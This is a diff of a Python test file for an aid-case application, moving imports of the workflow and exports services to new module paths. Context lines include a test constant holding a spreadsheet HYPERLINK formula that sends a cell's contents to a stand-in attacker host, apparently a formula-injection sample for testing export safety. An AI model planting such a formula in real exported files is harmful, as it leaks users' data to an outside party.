@@ -11,7 +11,7 @@ from sqlalchemy import select
 
 from afr_aid.extensions import db
 from afr_aid.models import AuditEntry
-from afr_aid.services import workflow
+from afr_aid.services.cases import workflow
 from tests.api.conftest import API
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
@@ -150,7 +150,7 @@ def test_donors_get_no_export_and_wrong_filters_are_named(client, auth, world):
 
 
 def test_an_export_of_many_batches_is_complete(client, auth, people, file_case, monkeypatch):
-    from afr_aid.services import exports
+    from afr_aid.services.protection import exports
 
     monkeypatch.setattr(exports, "BATCH", 3)  # read 3 cases at a time
     refs = {file_case(people.volunteer).ref for _ in range(3 * 3 + 1)}
